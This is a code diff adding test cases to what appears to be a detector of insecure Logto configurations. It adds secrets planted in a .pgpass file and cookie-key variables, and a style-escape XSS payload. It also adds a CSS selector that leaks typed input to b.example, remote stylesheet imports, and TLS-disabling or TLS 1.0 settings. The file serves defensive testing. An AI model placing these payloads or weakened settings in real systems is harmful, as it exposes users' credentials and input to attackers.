@@ -78,6 +78,13 @@ const inContainers: [what: string, path: string, value: unknown, at?: string][] 
   ["a variable of JSON", "envs.0", `CONFIG={"smtp":{"pass":"${password}"}}`, "envs[0]"],
   ["the log's driver", "logOpts.splunk-token", password, "logOpts.splunk-token"],
   [
+    "a file by whose name programs find passwords",
+    "uploads.0",
+    { file: "/root/.pgpass", content: `db:5432:logto:logto:${password}\n` },
+    "uploads[0].content",
+  ],
+  ["the keys of cookies", "envs.0", `OIDC_COOKIE_KEYS=${password}`, "envs[0]"],
+  [
     "a public file",
     "uploads.0",
     { file: "/etc/app.ini", content: `[db]\npassword = ${password}\n` },
@@ -253,6 +260,55 @@ const ofIdentity: Disguised[] = [
     ...uri("redirectUris", "https://bookstore.example\\@b.example/"),
   ],
   [
+    pages,
+    "custom CSS that ends its style sheet",
+    put("SignInExperience", "customCss", "a{}</style><script>alert(1)</script>"),
+    experience("customCss"),
+  ],
+  [
+    pages,
+    "custom CSS that tells what is typed",
+    put("SignInExperience", "customCss", 'input[value^="a"]{background:url(https://b.example/a)}'),
+    experience("customCss"),
+  ],
+  [
+    "applications-can-sign-in",
+    "a sign-out URI that is empty",
+    put("Application", "oidcClientMetadata.postLogoutRedirectUris.0", ""),
+    application("oidcClientMetadata.postLogoutRedirectUris[0]"),
+  ],
+  [
+    "applications-can-sign-in",
+    "an origin with a path",
+    put("Application", "customClientMetadata.corsAllowedOrigins", ["https://b.example/app"]),
+    application("customClientMetadata.corsAllowedOrigins[0]"),
+  ],
+  [
+    "email-templates-are-readable",
+    "a code that a rule for all screens hides",
+    put(
+      "SendGridConnector",
+      "config.templates.0.content",
+      "<style>@media all{.c{display:none}}</style><p class=c>{{code}}</p>",
+    ),
+    content,
+  ],
+  ...(
+    [
+      [
+        "a style sheet of another host by link",
+        "<link rel=stylesheet href=https://b.example/a.css>",
+      ],
+      ["one that a style element imports", "<style>@import 'https://b.example/a.css'</style>"],
+      ["a field for a password", "<input type=password name=p>"],
+    ] as const
+  ).map(([what, body]): Disguised => [
+    pages,
+    `${what} in custom content`,
+    put("SignInExperience", "customContent", { "/sign-in": body }),
+    experience("customContent./sign-in"),
+  ]),
+  [
     linked,
     "accounts that are linked by themselves",
     put("SignInExperience", "socialSignIn.automaticAccountLinking", true),
@@ -355,6 +411,21 @@ const ofPlatform: Disguised[] = [
     putVariable("Container/logto", "ENDPOINT=https://localhost"),
     logto("ENDPOINT"),
     ofDevelopers,
+  ],
+  [
+    encrypted,
+    "a client of Postgres without TLS",
+    all(
+      putVariable("Container/logto", "PGSSLMODE=disable"),
+      putVariable("Container/logto", "PGHOST=db.b.example"),
+    ),
+    logto("PGSSLMODE"),
+  ],
+  [
+    switches,
+    "an old TLS",
+    put("Container/logto", "envs.0", "NODE_OPTIONS=--tls-min-v1.0"),
+    logto("envs[0]"),
   ],
   ...(["0.0.0.0", "::", "203.0.113.7"] as const).map((ip): Disguised => [
     proxy,
